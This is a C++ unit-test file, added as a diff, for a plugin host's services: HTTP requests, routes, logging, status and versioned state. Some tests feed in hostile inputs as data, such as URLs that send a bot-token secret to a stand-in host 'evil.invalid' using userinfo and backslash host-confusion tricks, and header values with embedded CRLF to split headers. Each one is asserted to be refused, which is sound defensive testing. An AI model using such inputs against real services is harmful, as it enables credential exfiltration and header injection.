@@ -1,0 +1,250 @@
+// What the host's services let a plugin do, and what they refuse it.
+#include <gmock/gmock.h>
+
+#include "core/host/instance_fixture.hpp"
+#include "openclaw/host/http.h"
+#include "openclaw/host/log.h"
+#include "openclaw/host/route.h"
+#include "openclaw/host/state.h"
+#include "openclaw/host/status.h"
+
+namespace openclaw::host {
+
+using sdk::str;
+using ::testing::HasSubstr;
+using ::testing::Not;
+
+namespace {
+
+/// How a request of the plugin's ended.
+struct Answer {
+  std::promise<void> came;
+  oc_status code = OC_OK;
+  std::string json, body;
+  static void done(oc_inst*, void* user, oc_op, const oc_error* error, oc_str json,
+                   oc_buf body) noexcept {
+    auto& self = *static_cast<Answer*>(user);
+    self.code = error == nullptr ? OC_OK : error->code;
+    self.json = sdk::copy(json);
+    self.body = sdk::take(body);
+    self.came.set_value();
+  }
+  void wait() {
+    ASSERT_EQ(came.get_future().wait_for(std::chrono::seconds(20)), std::future_status::ready);
+  }
+};
+
+class FakeRequest final : public http::Request {
+ public:
+  std::string_view method() const override { return "GET"; }
+  std::string_view path() const override { return "/channels/scripted/x"; }
+  std::string_view query() const override { return {}; }
+  std::string_view header(std::string_view) const override { return {}; }
+  http::Headers headers() const override { return {}; }
+  std::string_view body() const override { return {}; }
+  const std::string& client_ip() const override { return ip_; }
+
+ private:
+  std::string ip_ = "127.0.0.1";
+};
+
+struct Said {
+  std::promise<unsigned> status;
+  http::Headers headers;
+};
+
+class FakeResponder final : public http::Responder {
+ public:
+  FakeResponder(Said& said, runtime::Loop& loop) : said_(said), loop_(loop) {}
+  ~FakeResponder() override {
+    if (!answered_) said_.status.set_value(500);
+  }
+  void respond(unsigned status, http::Headers headers, std::string) override {
+    answered_ = true;
+    said_.headers = std::move(headers);
+    said_.status.set_value(status);
+  }
+  void begin(unsigned, http::Headers) override {}
+  bool write(std::string) override { return false; }
+  void end() override {}
+  void on_gone(runtime::Task) override {}
+  const http::Request& request() const override { return request_; }
+  runtime::Loop& loop() override { return loop_; }
+
+ private:
+  Said& said_;
+  runtime::Loop& loop_;
+  FakeRequest request_;
+  bool answered_ = false;
+};
+
+const oc_http_callbacks callbacks = {sizeof(oc_http_callbacks), 0, nullptr, nullptr, &Answer::done};
+
+}  // namespace
+
+class ServicesTest : public InstanceTest {
+ protected:
+  static constexpr const char* kSection = R"({"botToken":"canary-secret-1"})";
+
+  oc_status request(const char* url, const char* header_value) {
+    Answer answer;
+    on_loop([&] {
+      const oc_kv header = {str("X-Key"), str(header_value)};
+      oc_http_request r{};
+      r.size = sizeof r;
+      r.method = str("GET");
+      r.url = str(url);
+      r.headers = &header;
+      r.n_headers = 1;
+      ASSERT_NE(script.service<oc_http>("oc.http/1")->request(script.host, &r, &callbacks, &answer),
+                0U);
+    });
+    answer.wait();
+    return answer.code;
+  }
+  /// Asks the route that the script added.
+  void ask(Said& said) {
+    const auto match = routes.find("GET", "/channels/scripted/x");
+    ASSERT_NE(match.route, nullptr);
+    match.route->handler(std::make_unique<FakeResponder>(said, home));
+  }
+  void add_route() {
+    on_loop([this] {
+      EXPECT_EQ(script.service<oc_route>("oc.route/1")
+                    ->add(
+                        script.host, str("GET"), str("/channels/scripted/x"),
+                        [](oc_inst* i, void*, oc_op op, const oc_route_request*) noexcept {
+                          script_of(i).cancelled.push_back(op);  // kept for a later reply
+                        },
+                        nullptr),
+                OC_OK);
+    });
+  }
+};
+
+TEST_F(ServicesTest, AServiceOfAnotherKindIsAbsent) {
+  make();
+  EXPECT_NE(script.service<void>("oc.route/1"), nullptr);
+  EXPECT_EQ(script.service<void>("oc.nonsense/1"), nullptr);
+}
+
+TEST_F(ServicesTest, HttpSendsSecretsToAllowedHostsOnly) {
+  make({}, {}, kSection);
+  for (const char* url :
+       {"https://evil.invalid/", "https://api.example.org@evil.invalid/",
+        "https://api.example.org\\@evil.invalid/", "evil.invalid/?://api.example.org/"}) {
+    EXPECT_EQ(request(url, "Bearer ${secret:botToken}"), OC_E_AUTH) << url;
+  }
+  EXPECT_EQ(request("https://evil.invalid/${secret:botToken}", "x"), OC_E_AUTH);
+  EXPECT_EQ(request("https://api.example.org/", "${secret:unset}"), OC_E_AUTH);
+}
+
+TEST_F(ServicesTest, HttpRefusesLineBreaksInHeaders) {
+  make({}, {}, R"({"botToken":"canary\r\nX-Injected: 1"})");
+  EXPECT_EQ(request("http://127.0.0.1:1/", "a\r\nb: c"), OC_E_INVAL);
+  EXPECT_EQ(request("https://api.example.org/", "${secret:botToken}"), OC_E_INVAL);
+}
+
+TEST_F(ServicesTest, ASecretInTheUrlMayNotMoveItsHost) {
+  make({}, {}, R"({"botToken":"evil.invalid/"})");
+  EXPECT_EQ(request("https://${secret:botToken}@api.example.org/", "x"), OC_E_INVAL);
+}
+
+TEST_F(ServicesTest, ThePluginSeesAPlaceholderAndItsWordsAreRedacted) {
+  make({}, {}, kSection);
+  EXPECT_THAT(script.config, Not(HasSubstr("canary")));
+  ::testing::internal::CaptureStderr();
+  on_loop([this] {
+    script.service<oc_log>("oc.log/1")
+        ->write(script.host, OC_LOG_ERROR, str("e"), str(R"({"what":"it was canary-secret-1"})"));
+    script.service<oc_status_service>("oc.status/1")
+        ->set(script.host, OC_STATE_FAILED, str("canary-secret-1 was refused"));
+  });
+  log.flush();
+  const std::string written = ::testing::internal::GetCapturedStderr();
+  EXPECT_THAT(written, HasSubstr("[botToken]"));
+  EXPECT_THAT(written, Not(HasSubstr("canary")));
+  EXPECT_EQ(instance->status().reason, "[botToken] was refused");
+}
+
+TEST_F(ServicesTest, RoutesOutsideTheManifestAreRefused) {
+  make();
+  on_loop([this] {
+    const auto add = script.service<oc_route>("oc.route/1")->add;
+    const auto never = [](oc_inst*, void*, oc_op, const oc_route_request*) noexcept {};
+    for (const char* path :
+         {"/health", "/channels/scripted", "/channels/scripted/", "/channels/other/x", "/*"}) {
+      EXPECT_EQ(add(script.host, str("GET"), str(path), never, nullptr), OC_E_AUTH) << path;
+    }
+  });
+}
+
+TEST_F(ServicesTest, ARouteIsAnsweredOnceWithoutSplitHeaders) {
+  make();
+  add_route();
+  Said said;
+  ask(said);
+  on_loop([this] {
+    ASSERT_EQ(script.cancelled.size(), 1U);
+    const oc_kv headers[] = {{str("X-Good"), str("1")}, {str("X-Bad"), str("1\r\nX-Split: 2")}};
+    const auto reply = script.service<oc_route>("oc.route/1")->reply;
+    EXPECT_EQ(reply(script.host, script.cancelled[0], 201, headers, 2, {}), OC_OK);
+    EXPECT_EQ(reply(script.host, script.cancelled[0], 201, headers, 2, {}), OC_E_NOTFOUND);
+  });
+  auto status = said.status.get_future();
+  EXPECT_EQ(get(status), 201U);
+  EXPECT_EQ(said.headers, (http::Headers{{"X-Good", "1"}}));
+}
+
+TEST_F(ServicesTest, ARouteThatIsNotAnsweredInTimeGets504) {
+  Deadlines deadlines;
+  deadlines.reply = runtime::Millis{1};
+  make(deadlines);
+  add_route();
+  Said said;
+  ask(said);
+  auto status = said.status.get_future();
+  EXPECT_EQ(get(status), 504U);
+}
+
+TEST_F(ServicesTest, TooManyWaitingRequestsAndAStopGet503) {
+  Limits limits;
+  limits.replies = 1;
+  make({}, limits);
+  add_route();
+  Said waits;
+  Said refused;
+  ask(waits);
+  ask(refused);
+  auto second = refused.status.get_future();
+  EXPECT_EQ(get(second), 503U);
+  on_loop([this] { instance->destroy(); });
+  auto first = waits.status.get_future();
+  EXPECT_EQ(get(first), 503U);
+  EXPECT_EQ(routes.find("GET", "/channels/scripted/x").route, nullptr);
+}
+
+TEST_F(ServicesTest, StateComesBackAndAWrongVersionIsAConflict) {
+  make();
+  const auto put = [this](std::uint64_t expect) {
+    Answer answer;
+    on_loop([&] {
+      script.service<oc_state>("oc.state/1")
+          ->put(script.host, str("k"), str("v"), expect, &Answer::done, &answer);
+    });
+    answer.wait();
+    return std::pair(answer.code, answer.json);
+  };
+  EXPECT_EQ(put(0), std::pair(oc_status{OC_OK}, std::string(R"({"version":1})")));
+  EXPECT_EQ(put(0).first, OC_E_CONFLICT);
+  Answer answer;
+  on_loop([&] {
+    script.service<oc_state>("oc.state/1")->get(script.host, str("k"), &Answer::done, &answer);
+  });
+  answer.wait();
+  EXPECT_EQ(answer.body, "v");
+  EXPECT_EQ(answer.json, R"({"version":1})");
+  EXPECT_EQ(store.values.count("plugin/scripted|k"), 1U);
+}
+
+}  // namespace openclaw::host
